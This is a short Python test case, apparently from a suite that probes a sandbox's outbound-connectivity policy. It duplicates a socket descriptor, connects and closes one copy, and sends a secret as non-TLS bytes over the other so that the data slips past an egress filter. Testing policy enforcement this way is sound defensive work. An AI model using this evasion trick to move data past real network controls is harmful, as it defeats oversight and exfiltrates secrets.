# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a socket has two fds before it is connected: one is closed, and bytes that are not TLS go
#   by the other
# proof: word
# needs: resolver
import socket

from attack import SECRET, at_allowed, attempt


def say(place):
    out = socket.socket()
    other = out.dup()
    out.connect(place)
    out.close()
    other.send(SECRET.encode())
    return other


@attempt
def send():
    return at_allowed(say, first=False)
